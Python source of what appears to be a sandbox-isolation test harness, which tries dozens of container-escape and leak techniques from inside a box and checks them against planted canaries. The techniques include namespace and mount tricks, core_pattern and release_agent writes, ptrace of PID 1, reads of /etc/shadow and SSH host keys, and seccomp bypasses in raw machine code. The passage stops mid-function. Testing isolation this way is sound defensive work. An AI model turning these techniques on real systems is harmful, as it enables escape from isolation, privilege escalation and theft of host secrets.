"""What hostile code tries from inside a box: one function an attack, the standard library only, since it runs in the box.

`python3 inside.py [NAME…]` reads what it may know of the outside as JSON on stdin and prints one line of JSON an attack:
{"name", "got": what it must never have, or null, "refused": how it was refused}. An attack that gets something returns it; one that is
refused returns nothing or raises. Each runs in a process of its own. `kind` says where it must fail: "reach" (something of the host's or
of another box's) on every tier, "power" (something that a kernel keeps from code like this) wherever the kernel is not the box's own.
"""

import contextlib
import ctypes
import errno
import fcntl
import glob
import hashlib
import json
import mmap
import os
import re
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ATTACKS = {}
WORLD = {}
TOKEN = re.compile(rb"canary-[0-9a-f]{32}")
NEWNS, NEWCGROUP, NEWUTS, NEWIPC, NEWUSER, NEWPID, NEWNET, NEWTIME = (
    0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80,
)  # fmt: skip


class Refused(Exception):
    """Said by an attack that sees by itself that it came to nothing."""


def attack(name, kind="power", users=("user", "root")):
    """Enter an attack into the table."""

    def add(function):
        ATTACKS[name] = (function, kind, users)
        return function

    return add


def call(number, *arguments):
    """A system call by its number on x86-64; OSError when it is refused."""
    ready = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    done = libc.syscall(ctypes.c_long(number), *ready)
    if done < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return done


def canary(data):
    """The token in `data`, if it is one that was planted outside; code in here knows only its hash."""
    for found in TOKEN.findall(data):
        if hashlib.sha256(found).hexdigest() in WORLD["hashes"]:
            return found.decode()
    return None


def read(path, size=1 << 20):
    with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", 0) as file:
        return file.read(size) or b""


def write(path, data=b"1"):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
    return f"wrote {path}"


def seen(paths):
    """The canary in the first of these files that has it."""
    why = None
    for path in paths:
        try:
            if found := canary(read(path)):
                return f"{path}: {found}"
        except OSError as error:
            why = error
    if why:
        raise why


def out_of(root):
    """Whether a directory shows the host's tree: its canaries, or what the spawner keeps beside boxes."""
    return seen(
        [
            f"{root}/{path.lstrip('/')}"
            for prefix in ("", "host", "../..")
            for path in (f"{prefix}{p}" for p in WORLD["canaries"])
        ]
    )


def in_child(act):
    """What `act` gave, from a process of its own: for calls that change who one is."""
    readable, writable = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writable, (act() or "").encode())
        except BaseException as error:
            os.write(writable, b"!" + repr(error).encode())
        os._exit(0)
    os.close(writable)
    with open(readable, "rb") as file:
        said = file.read().decode(errors="replace")
    os.waitpid(pid, 0)
    if said.startswith("!"):
        raise Refused(said[1:])
    return said or None


# ---- namespaces ----

for _name, _flag in (
    ("user", NEWUSER), ("mount", NEWNS), ("network", NEWNET), ("pid", NEWPID), ("ipc", NEWIPC), ("uts", NEWUTS), ("cgroup", NEWCGROUP),
    ("time", NEWTIME),
):  # fmt: skip

    def _unshare(flag=_flag):
        call(272, flag)
        return "a namespace of its own"

    attack(f"namespace.unshare_{_name}")(_unshare)


@attack("namespace.unshare_user_then_mount")
def unshare_then_mount():
    call(272, NEWUSER | NEWNS)
    call(165, b"none", b"/mnt", b"tmpfs", 0, 0)
    return "mounted"


@attack("namespace.clone_flags")
def clone_flags():
    pid = call(56, NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in a user namespace of its own"


@attack("namespace.clone3")
def clone3():
    arguments = struct.pack("<11Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    pid = call(435, arguments, len(arguments))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a child in a user namespace of its own"


@attack("namespace.setns_of_first_process")
def setns_first():
    for name in ("mnt", "net", "user", "pid", "ipc", "uts", "cgroup"):
        with contextlib.suppress(OSError):
            call(308, os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
            return f"joined {name} of PID 1"
    raise Refused("none can be opened and joined")


@attack("namespace.setns_by_pidfd")
def setns_pidfd():
    call(308, call(434, 1, 0), NEWNS | NEWUSER)
    return "joined PID 1"


@attack("namespace.parent_by_ioctl")
def ns_parent():
    for name in ("user", "pid", "net", "mnt"):
        fd = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        for request in (0xB701, 0xB702):  # NS_GET_USERNS, NS_GET_PARENT
            with contextlib.suppress(OSError):
                above = fcntl.ioctl(fd, request)
                if os.readlink(f"/proc/self/fd/{above}") == os.readlink("/proc/self/ns/user"):
                    continue  # its own
                return f"an fd of the namespace that owns {name}: {os.readlink(f'/proc/self/fd/{above}')}"
    raise Refused("no way up")


@attack("namespace.rewrite_id_map")
def id_map():
    return write("/proc/self/uid_map", b"0 0 1")


@attack("namespace.host_root_mapped")
def host_root_mapped():
    with open("/proc/self/uid_map") as file:
        for line in file:
            inner, outer, _ = map(int, line.split())
            if outer < 65536:
                return f"id {inner} of the box is id {outer} of the host"


# ---- mounts ----


@attack("mount.tmpfs")
def mount_tmpfs():
    call(165, b"none", b"/mnt", b"tmpfs", 0, 0)
    return "mounted"


@attack("mount.bind_root")
def mount_bind():
    call(165, b"/", b"/mnt", 0, 4096, 0)
    return "mounted"


@attack("mount.proc_anew")
def mount_proc():
    call(165, b"proc", b"/mnt", b"proc", 0, 0)
    return "mounted"


@attack("mount.sysfs")
def mount_sysfs():
    call(165, b"sysfs", b"/mnt", b"sysfs", 0, 0)
    return "mounted"


@attack("mount.cgroup_v1")
def mount_cgroup():
    call(165, b"cgroup", b"/mnt", b"cgroup", 0, b"memory")
    return f"mounted: {os.listdir('/mnt')[:5]}"


@attack("mount.overlay")
def mount_overlay():
    call(165, b"overlay", b"/mnt", b"overlay", 0, b"lowerdir=/usr:/etc")
    return "mounted"


@attack("mount.remount_without_nosuid")
def remount():
    call(165, b"none", b"/", 0, 32, 0)
    return "remounted"


@attack("mount.unmount_mask_of_proc")
def unmount_mask():
    call(166, b"/proc/cmdline", 2)
    return f"host's kernel arguments: {read('/proc/cmdline')[:40]!r}"


@attack("mount.unmount_proc")
def unmount_proc():
    call(166, b"/proc", 2)
    return "unmounted"


@attack("mount.fsopen")
def fsopen():
    call(430, b"tmpfs", 0)
    return "a filesystem context"


@attack("mount.open_tree_clone")
def open_tree():
    call(428, -100, b"/", 1)
    return "a detached copy of /"


@attack("mount.move_mount")
def move_mount():
    call(429, -100, b"/proc", -100, b"/mnt", 0)
    return "moved /proc"


@attack("mount.mount_setattr")
def mount_setattr():
    call(442, -100, b"/", 0, struct.pack("<4Q", 0, 2, 0, 0), 32)
    return "nosuid is off"


@attack("mount.fspick")
def fspick():
    call(433, -100, b"/", 0)
    return "a context of the root's filesystem"


@attack("mount.pivot_root")
def pivot_root():
    call(155, b"/", b"/mnt")
    return "pivoted"


@attack("mount.chroot_escape", "reach")
def chroot_escape():
    def act():
        os.makedirs("/tmp/jail", exist_ok=True)
        before = os.open("/", os.O_RDONLY)
        call(161, b"/tmp/jail")  # the old one: a root below the working directory
        os.fchdir(before)
        for _ in range(64):
            os.chdir("..")
        call(161, b".")
        return out_of("/") or next((f"/{name}" for name in ("state", "host") if os.path.exists(f"/{name}")), None)

    return in_child(act)


# ---- paths that lead out ----


@attack("path.plain", "reach")
def path_plain():
    return seen(WORLD["canaries"])


@attack("path.dotdot", "reach")
def path_dotdot():
    return out_of("/" + "../" * 40)


@attack("path.spawner_directories", "reach")
def path_spawner():
    return next(
        (f"{p} is there" for p in ("/state", "/host", "/m/upper", "/state/boxes", WORLD["state"]) if os.path.exists(p)),
        None,
    )


@attack("path.proc_1_root", "reach")
def path_proc_root():
    return out_of("/proc/1/root") or out_of("/proc/1/cwd")


@attack("path.proc_self_root", "reach")
def path_self_root():
    return (
        out_of("/proc/self/root/../../..")
        or out_of("/proc/self/cwd/../../../../..")
        or out_of("/proc/thread-self/root/..")
    )


@attack("path.roots_of_all_processes", "reach")
def path_all_roots():
    for link in [
        *glob.glob("/proc/[0-9]*/root"),
        *glob.glob("/proc/[0-9]*/cwd"),
        *glob.glob("/proc/[0-9]*/task/*/root"),
    ]:
        with contextlib.suppress(OSError):
            if found := out_of(link):
                return found


@attack("path.fds_of_all_processes", "reach")
def path_all_fds():
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            if os.path.isdir(link) and (found := out_of(link) or out_of(f"{link}/../../..")):
                return found


@attack("path.directory_of_own_program", "reach")
def path_exe():
    return out_of("/proc/self/exe/..") or seen(
        [f"/proc/self/map_files/{name}" for name in os.listdir("/proc/self/map_files")]
    )


@attack("path.file_handle")
def path_handle():
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128), 136)
    call(303, -100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)
    return "a handle of /"


@attack("path.open_by_handle", "reach")
def path_by_handle():
    # inode 2 of an ext4, 256 of a btrfs: the old way out of containers
    for kind, data in ((1, struct.pack("<II", 2, 0)), (0x4D, struct.pack("<QQI", 256, 5, 0))):
        handle = struct.pack("<Ii", len(data), kind) + data
        for at in ("/", "/proc", "/dev"):
            with contextlib.suppress(OSError):
                fd = call(304, os.open(at, os.O_RDONLY), handle, os.O_RDONLY)
                return out_of(f"/proc/self/fd/{fd}") or f"opened a directory by its number: {os.listdir(fd)[:5]}"
    raise Refused("no handle opens")


@attack("path.mask_by_rename", "reach", ("root",))
def mask_rename():
    for name in ("/var", "/tmp", "/run", "/root", "/srv"):
        with contextlib.suppress(OSError):
            os.rename(name, f"{name}.away")
            with contextlib.suppress(OSError):
                os.mkdir(name)
            if found := seen(WORLD["canaries"]):
                return found
            with contextlib.suppress(OSError):
                os.rmdir(name)
            os.rename(f"{name}.away", name)


@attack("path.mask_by_xattr", "reach", ("root",))
def mask_xattr():
    for name in ("/var", "/run", "/"):
        for key, value in (
            ("trusted.overlay.opaque", b"n"),
            ("user.overlay.opaque", b"n"),
            ("trusted.overlay.redirect", b"/var"),
        ):
            with contextlib.suppress(OSError):
                os.setxattr(name, key, value)
    if found := seen(WORLD["canaries"]):
        return found
    raise Refused("the mask holds")


@attack("path.mask_by_whiteout", "reach", ("root",))
def mask_whiteout():
    os.mknod("/tmp/white", stat.S_IFCHR, 0)
    return "made a whiteout of its own"


@attack("path.host_shadow", "reach", ("root",))
def host_shadow():
    for path in ("/etc/shadow", "/etc/passwd", "/etc/machine-id", "/etc/ssh/ssh_host_ed25519_key"):
        with contextlib.suppress(OSError):
            for line in read(path).splitlines():
                if len(line) > 12 and hashlib.sha256(line).hexdigest() in WORLD["private_lines"]:
                    return f"a line of the host's {path}"


@attack("path.write_lower_layer", "reach", ("root",))
def write_lower():
    # The program is the host's own file below the mask: writing to it must change a copy at most (the runner looks at the original).
    with contextlib.suppress(OSError), open("/usr/bin/env", "r+b") as file:
        file.write(b"#!pwned")
    with contextlib.suppress(OSError):
        os.chmod("/usr/bin/env", 0o4777)
    raise Refused("the host's file is looked at outside")


@attack("path.unix_socket_of_host", "reach")
def host_unix_socket():
    for path in WORLD["sockets"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            return f"connected to {path}"
    raise Refused("none can be reached")


# ---- what leaks ----


@attack("leak.mountinfo", "reach")
def leak_mountinfo():
    text = read("/proc/self/mountinfo") + read("/proc/self/mounts")
    for secret in (WORLD["state"], "/var/lib/livinglayer", "/state/", "/work", "boxes/"):
        if secret.encode() in text:
            return next(line for line in text.decode().splitlines() if secret in line)


@attack("leak.cgroup_path", "reach")
def leak_cgroup():
    text = read("/proc/self/cgroup").decode()
    if "livinglayer" in text or WORLD["box"] in text or any("/.." in line for line in text.splitlines()):
        return text


@attack("leak.first_process", "reach")
def leak_first():
    text = read("/proc/1/cmdline") + b" "
    with contextlib.suppress(OSError):
        text += read("/proc/1/environ")
    for secret in (WORLD["state"], "/var/lib", "/work", "spawner"):
        if secret.encode() in text:
            return text.decode(errors="replace")


@attack("leak.own_command_line", "reach")
def leak_cmdline():
    text = read("/proc/self/cmdline") + repr(getattr(sys, "orig_argv", "")).encode() + read("/proc/self/maps")
    for secret in (WORLD["state"], "zygote_process", "/work/", "site-packages/livinglayer"):
        if secret.encode() in text:
            return secret


@attack("leak.memory_of_other_requests", "reach")
def leak_memory():
    for line in open("/proc/self/maps"):
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if found and "[v" not in line:
            low, high = int(found[1], 16), int(found[2], 16)
            if token := canary(ctypes.string_at(low, min(high - low, 64 << 20))):
                return token


@attack("leak.environment", "reach")
def leak_environment():
    known = {
        "PATH", "SHELL", "HOME", "USER", "LOGNAME", "LAYER_BOX", "LAYER_URL", "PYTHONPATH", "NODE_PATH", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "PIP_CERT", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO",
        "NODE_EXTRA_CA_CERTS", "LC_CTYPE", "TERM", "PWD", "SHLVL", "_", "OLDPWD", "TMPDIR",
    }  # fmt: skip
    if token := canary(repr(os.environ).encode()):
        return token
    if extra := set(os.environ) - known:
        return f"variables of the host's: {sorted(extra)}"


@attack("leak.fds", "reach")
def leak_fds():
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            ours = target.startswith(("pipe:", "/dev/null", "/proc/")) or target == "/dev/pts/0" or int(name) in OWN_FDS
            if not ours:
                return f"fd {name} is {target}"


@attack("leak.hostname", "reach")
def leak_hostname():
    names = {
        socket.gethostname(),
        os.uname().nodename,
        read("/proc/sys/kernel/hostname").decode().strip(),
        read("/etc/hostname").decode().strip(),
    }
    if WORLD["hostname"] in names:
        return WORLD["hostname"]


@attack("leak.host_processes", "reach")
def leak_processes():
    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            if token := canary(read(path)):
                return f"{path}: {token}"
    if WORLD["host_pid"] > 100_000_000:
        return None
    with contextlib.suppress(OSError):
        if WORLD["host_command"] in read(f"/proc/{WORLD['host_pid']}/cmdline").decode(errors="replace"):
            return f"process {WORLD['host_pid']} of the host"


@attack("leak.kernel_arguments")
def leak_kernel_arguments():
    if hashlib.sha256(read("/proc/cmdline")).hexdigest() == WORLD["kernel_arguments"]:
        return "the host's kernel arguments"


@attack("leak.proc_of_the_host")
def leak_proc():
    for name in (
        "keys",
        "partitions",
        "diskstats",
        "interrupts",
        "locks",
        "timer_list",
        "sched_debug",
        "slabinfo",
        "vmallocinfo",
    ):
        with contextlib.suppress(OSError):
            if text := read(f"/proc/{name}"):
                return f"/proc/{name}: {text[:60]!r}"


@attack("leak.kernel_log")
def leak_log():
    buffer = ctypes.create_string_buffer(4096)
    with contextlib.suppress(OSError):
        call(103, 3, buffer, 4096)
        return f"syslog: {buffer.value[:60]!r}"
    for path in ("/dev/kmsg", "/proc/kmsg"):
        with contextlib.suppress(OSError):
            if text := read(path):
                return f"{path}: {text[:60]!r}"


@attack("leak.kernel_addresses")
def leak_kallsyms():
    for line in read("/proc/kallsyms", 4096).decode().splitlines():
        if line and int(line.split()[0], 16):
            return line


@attack("leak.kernel_memory")
def leak_kcore():
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"):
        with contextlib.suppress(OSError):
            if read(path, 64):
                return f"read {path}"


@attack("leak.sys")
def leak_sys():
    for path in ("/sys/kernel", "/sys/class/net", "/sys/fs/cgroup", "/sys/firmware", "/sys/kernel/debug"):
        with contextlib.suppress(OSError):
            if names := [name for name in os.listdir(path) if path != "/sys/class/net" or name != "lo"]:
                return f"{path}: {names[:5]}"


@attack("leak.other_boxes", "reach")
def leak_others():
    text = b"".join(
        read(path)
        for path in ("/proc/self/mountinfo", "/proc/self/cgroup", "/proc/net/unix", "/proc/net/tcp")
        if os.path.exists(path)
    )
    text += " ".join(glob.glob("/proc/[0-9]*") + os.listdir("/tmp") + os.listdir("/run")).encode()
    for other in WORLD["others"]:
        if other.encode() in text:
            return other


@attack("leak.host_sockets", "reach")
def leak_sockets():
    wanted = f":{WORLD['tcp']:04X}"
    for path in ("/proc/net/tcp", "/proc/1/net/tcp", "/proc/net/udp", "/proc/net/unix"):
        with contextlib.suppress(OSError):
            text = read(path).decode()
            if wanted in text or WORLD["abstract"] in text:
                return f"{path} shows a socket of the host's"


# ---- settings of the kernel ----


@attack("kernel.core_pattern")
def core_pattern():
    # The old way out: the next crash would run this on the host. Writing what is there already is proof enough and harms nothing.
    before = read("/proc/sys/kernel/core_pattern")
    return write("/proc/sys/kernel/core_pattern", before)


@attack("kernel.sysctl")
def sysctl():
    for name in (
        "kernel/hostname", "kernel/modprobe", "kernel/panic", "vm/overcommit_memory", "vm/drop_caches", "net/ipv4/ip_forward", "net/core/somaxconn",
        "fs/file-max", "kernel/ns_last_pid", "kernel/randomize_va_space", "user/max_user_namespaces", "kernel/domainname", "kernel/shmmax",
    ):  # fmt: skip
        path = f"/proc/sys/{name}"
        with contextlib.suppress(OSError):
            before = read(path)
            return write(path, before or b"0")
    raise Refused("none can be written")


@attack("kernel.sysrq")
def sysrq():
    return write("/proc/sysrq-trigger", b"h")


@attack("kernel.uevent_helper")
def uevent_helper():
    return write("/sys/kernel/uevent_helper", b"/tmp/x")


@attack("kernel.release_agent")
def release_agent():
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True):
        return write(path, b"/tmp/x")
    raise Refused("no cgroup is to be seen")


@attack("kernel.binfmt_misc")
def binfmt():
    return write("/proc/sys/fs/binfmt_misc/register", b":x:M::xx::/bin/true:")


@attack("kernel.raise_own_limits")
def raise_limits():
    for path in glob.glob("/sys/fs/cgroup/**/*.max", recursive=True) + glob.glob(
        "/sys/fs/cgroup/**/*limit_in_bytes", recursive=True
    ):
        with contextlib.suppress(OSError):
            return write(path, b"max")
    raise Refused("no cgroup is to be seen")


@attack("kernel.rlimits")
def rlimits():
    import resource

    for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_MEMLOCK, resource.RLIMIT_CORE, resource.RLIMIT_MSGQUEUE):
        limit = resource.getrlimit(which)[1]
        with contextlib.suppress(OSError, ValueError):
            if limit != resource.RLIM_INFINITY:
                resource.setrlimit(which, (limit + 1, limit + 1))
                return f"limit {which} raised above {limit}"
    raise Refused("none can be raised")


@attack("kernel.oom_score")
def oom_score():
    now = int(read("/proc/self/oom_score_adj"))
    write("/proc/self/oom_score_adj", b"-1000")
    after = int(read("/proc/self/oom_score_adj"))
    return f"the host is killed before the box: {after}" if after < min(0, now) else None


@attack("kernel.nice")
def nice():
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    return "goes before the host"


@attack("kernel.realtime")
def realtime():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "goes before the host"


for _name, _number, _arguments in (
    ("io_uring", 425, (8, bytes(120))), ("bpf", 321, (0, bytes(72), 72)), ("perf_event_open", 298, (struct.pack("<II", 1, 112) + bytes(104), 0, -1, -1, 0)),
    ("userfaultfd", 323, (0,)), ("init_module", 175, (0, 0, b"")), ("finit_module", 313, (0, b"", 0)), ("kexec_load", 246, (0, 0, 0, 0)),
    ("kexec_file_load", 320, (0, 0, 0, 0, 0)), ("swapon", 167, (b"/tmp/x", 0)), ("acct", 163, (0,)), ("clock_settime", 227, (0, struct.pack("<qq", int(time.time()), 0))),
    ("adjtimex", 159, (struct.pack("<I", 1) + bytes(204),)), ("quotactl", 179, (0x800002 << 8, b"/", 0, 0)), ("iopl", 172, (3,)), ("ioperm", 173, (0x80, 1, 1)),
    ("modify_ldt", 154, (0, bytes(64), 64)), ("vhangup", 153, ()), ("kcmp", 312, (1, os.getpid(), 0, 0, 0)), ("fanotify_init", 300, (0, 0)),
    ("memfd_secret", 447, (0,)), ("io_setup", 206, (8, bytes(8))), ("add_key", 248, (b"user", b"x", b"y", 1, -3)), ("request_key", 249, (b"user", b"ll-canary", 0, 0)),
    ("keyctl", 250, (0, -3, 1)), ("ptrace", 101, (0, 0, 0, 0)), ("process_vm_readv", 310, (os.getppid(), 0, 0, 0, 0, 0)),
    ("move_pages", 279, (0, 0, 0, 0, 0, 0)), ("set_mempolicy", 238, (0, 0, 0)), ("lookup_dcookie", 212, (0, bytes(8), 8)), ("nfsservctl", 180, (0, 0, 0)),
    ("sethostname", 170, (b"pwned", 5)), ("setdomainname", 171, (b"pwned", 5)), ("pidfd_getfd", 438, (0, 0, 0)), ("userns_fd_handle", 304, (-1, bytes(8), 0)),
):  # fmt: skip

    def _call(number=_number, arguments=_arguments):
        done = call(number, *arguments)
        return f"done: {done}"

    attack(f"call.{_name}")(_call)


@attack("call.reboot")
def reboot():
    # With wrong magic: EINVAL would mean that the right came first.
    try:
        call(169, 1, 2, 3, 0)
    except OSError as error:
        if error.errno == errno.EINVAL:
            return "the right to reboot"
        raise


@attack("call.personality")
def personality():
    before = libc.personality(0xFFFFFFFF)
    call(135, before | 0x0040000 | 0x0400000)  # no randomisation, what is read may be run
    now = libc.personality(0xFFFFFFFF)
    return f"personality {now:#x}" if now & 0x0440000 else None


def machine(code):
    """What x86 machine code leaves in eax, run in a child, since a filter may kill it."""

    def act():
        memory = mmap.mmap(-1, 4096, prot=7)
        memory.write(code)
        function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
        return str(ctypes.c_int32(function()).value)

    readable, writable = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            os.write(writable, act().encode())
        os._exit(0)
    os.close(writable)
    said = os.read(readable, 100)
    _, status = os.waitpid(pid, 0)
    if not said:
        raise Refused(f"killed: status {status}")
    return int(said)


@attack("call.i386_by_int80")
def int80():
    # eax = 20 (getpid of i386): a number that the filter of x86-64 would take for another call
    result = machine(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    return f"an i386 call was served: {result}" if result > 0 else None


@attack("call.i386_keyctl")
def int80_keyctl():
    # eax = 288 (keyctl of i386), ebx = 0 (KEYCTL_GET_KEYRING_ID), ecx = -3, edx = 1; rbx is kept for the caller
    result = machine(b"\x53\xb8\x20\x01\x00\x00\x31\xdb\xb9\xfd\xff\xff\xff\xba\x01\x00\x00\x00\xcd\x80\x5b\xc3")
    return f"keyctl of i386 was served: {result}" if result > 0 else None


@attack("call.x32")
def x32():
    result = machine(b"\xb8\x27\x00\x00\x40\x0f\x05\xc3")  # getpid | 0x40000000
    return f"an x32 call was served: {result}" if result > 0 else None


@attack("call.x32_unshare")
def x32_unshare():
    result = machine(b"\xbf\x00\x00\x00\x10\xb8\x10\x01\x00\x40\x0f\x05\xc3")  # unshare(NEWUSER) | 0x40000000
    return "unshare through x32" if result == 0 else None


@attack("call.unfiltered_thread")
def unfiltered():
    # A filter that is set for one thread leaves the others free.
    import threading

    said = []

    def work():
        said.append(libc.syscall(ctypes.c_long(425), ctypes.c_long(8), bytes(120)))

    threads = [threading.Thread(target=work) for _ in range(3)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    return "a thread without the filter" if any(result >= 0 for result in said) else None


# ---- devices ----

for _name, _kind, _major, _minor in (
    ("disk", stat.S_IFBLK, 254, 0), ("disk_scsi", stat.S_IFBLK, 8, 0), ("loop", stat.S_IFBLK, 7, 0), ("memory", stat.S_IFCHR, 1, 1), ("kvm", stat.S_IFCHR, 10, 232),
    ("fuse", stat.S_IFCHR, 10, 229),
):  # fmt: skip

    def _mknod(kind=_kind, major=_major, minor=_minor):
        for directory in ("/tmp", "/dev/shm", "/dev"):
            path = f"{directory}/node-{major}-{minor}"
            with contextlib.suppress(OSError):
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
                fd = os.open(path, os.O_RDONLY)
                return f"opened {path}: {os.read(fd, 16)!r}"
        raise Refused("no node can be made and opened")

    attack(f"device.make_{_name}")(_mknod)


@attack("device.open")
def device_open():
    for name in ("kvm", "fuse", "loop-control", "loop0", "mem", "vda", "sda", "net/tun", "vsock", "vhost-vsock", "vhost-net", "mapper/control", "uinput", "console", "tty0", "ttyS0", "snapshot", "btrfs-control"):  # fmt: skip
        with contextlib.suppress(OSError):
            os.close(os.open(f"/dev/{name}", os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
            return f"/dev/{name}"


@attack("device.unexpected")
def device_unexpected():
    known = {
        "fd",
        "full",
        "null",
        "ptmx",
        "pts",
        "random",
        "shm",
        "stderr",
        "stdin",
        "stdout",
        "tty",
        "urandom",
        "zero",
        "agent",
        "console",
        "mqueue",
        "core",
    }
    if extra := set(os.listdir("/dev")) - known:
        return f"{sorted(extra)[:8]}"


@attack("device.change_shared_dev")
def device_shared():
    # In tier namespace boxes share one /dev: what one changes there, all would see.
    with contextlib.suppress(OSError):
        with open("/dev/planted", "w"):
            return "made /dev/planted" if not WORLD["own_dev"] else None
    os.chmod("/dev/null", 0o600)
    return "changed /dev/null" if not WORLD["own_dev"] else None


@attack("device.push_into_terminal")
def tiocsti():
    _master, slave = os.openpty()
    os.setsid()
    fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
    for request in (
        0x100005412,
        0x5412,
    ):  # a filter that compares 64 bits where the kernel takes 32 lets the first through
        with contextlib.suppress(OSError):
            call(16, slave, request, b"x")
            return "a character in a terminal's input"
        if ctypes.get_errno() == errno.EIO:
            return "only the kernel's own setting keeps it from a terminal's input"
    raise Refused("the filter")


# ---- keys ----


@attack("keys.of_the_host", "reach")
def keys_host():
    for ring in (-1, -2, -3, -4, -5, -8):
        with contextlib.suppress(OSError):
            key = call(250, 10, ring, b"user", b"ll-canary", 0)  # KEYCTL_SEARCH
            buffer = ctypes.create_string_buffer(256)
            call(250, 11, key, buffer, 256)
            if found := canary(buffer.raw):
                return f"keyring {ring}: {found}"
    with contextlib.suppress(OSError):
        key = call(249, b"user", b"ll-canary", 0, 0)
        buffer = ctypes.create_string_buffer(256)
        call(250, 11, key, buffer, 256)
        return canary(buffer.raw)
    raise Refused("not found")


@attack("keys.by_number", "reach")
def keys_number():
    for key in WORLD["keys"]:
        buffer = ctypes.create_string_buffer(256)
        call(250, 11, key, buffer, 256)
        if found := canary(buffer.raw):
            return found


# ---- the agent ----


@attack("agent.memory")
def agent_memory():
    for path, flags in (
        ("/proc/1/mem", os.O_RDWR),
        ("/proc/1/mem", os.O_RDONLY),
        ("/proc/1/maps", os.O_RDONLY),
        ("/proc/1/environ", os.O_RDONLY),
    ):
        with contextlib.suppress(OSError):
            fd = os.open(path, flags)
            if flags == os.O_RDWR or os.read(fd, 16):
                return f"{path} of the agent"
    raise Refused("closed")


@attack("agent.fds")
def agent_fds():
    for name in os.listdir("/proc/1/fd"):
        return f"fd {name} of the agent: {os.readlink(f'/proc/1/fd/{name}')}"


@attack("agent.fd_by_pidfd")
def agent_pidfd():
    pidfd = call(434, 1, 0)
    for number in range(16):
        with contextlib.suppress(OSError):
            return f"fd {call(438, pidfd, number, 0)} is the agent's {number}"
    raise Refused("none")


@attack("agent.ptrace")
def agent_ptrace():
    for request in (16, 0x4206):  # ATTACH, SEIZE
        with contextlib.suppress(OSError):
            call(101, request, 1, 0, 0)
            return "attached to PID 1"
    raise Refused("no ptrace")


@attack("agent.read_memory")
def agent_vm():
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("<QQ", ctypes.addressof(buffer), 8)
    for number in (310, 311):
        for address in (0x400000, 0x10000):
            with contextlib.suppress(OSError):
                call(number, 1, local, 1, struct.pack("<QQ", address, 8), 1, 0)
                return "memory of PID 1"
    raise Refused("closed")


@attack("agent.signals")
def agent_signals():
    # The first process of a pid namespace hears only what it asked for. That it still answers is seen by the next attack.
    for number in (
        signal.SIGKILL,
        signal.SIGSTOP,
        signal.SIGTERM,
        signal.SIGHUP,
        signal.SIGINT,
        signal.SIGSEGV,
        signal.SIGCHLD,
        signal.SIGPIPE,
    ):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    time.sleep(0.05)
    state = read("/proc/1/status").decode()
    return "PID 1 stands still" if "State:\tT" in state or "State:\tZ" in state else None


@attack("agent.freeze_by_limits")
def agent_limits():
    # prlimit of another process: a core limit, no fds
    call(302, 1, 7, struct.pack("<QQ", 3, 3), 0)
    return "PID 1 has no fds left"


# ---- privileges ----


@attack("privilege.capabilities")
def capabilities():
    allowed = 0x4EB  # chown dac_override fowner kill setgid setuid net_bind_service
    status = dict(line.split(":\t") for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
    for name in ("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb"):
        held = int(status.get(name, "0"), 16)
        if held & ~allowed or (os.getuid() and name not in ("CapBnd",) and held):
            return f"{name} {held:#x}"


@attack("privilege.raise_capabilities")
def raise_capabilities():
    call(126, struct.pack("<Ii", 0x20080522, 0), struct.pack("<6I", *[0xFFFFFFFF] * 2, 0, *[0x1FF] * 2, 0))
    return "all capabilities"


@attack("privilege.ambient")
def ambient():
    call(157, 47, 2, 21, 0, 0)  # PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN
    return "an ambient capability"


@attack("privilege.no_new_privs")
def no_new_privs():
    status = read("/proc/self/status").decode()
    if found := re.search(r"NoNewPrivs:\s+0", status):
        return found[0]
    os.listdir("/")


@attack("privilege.filter")
def filter_on():
    if found := re.search(r"Seccomp:\s+0", read("/proc/self/status").decode()):
        return found[0]


@attack("privilege.nosuid")
def nosuid():
    for line in read("/proc/self/mountinfo").decode().splitlines():
        fields = line.split()
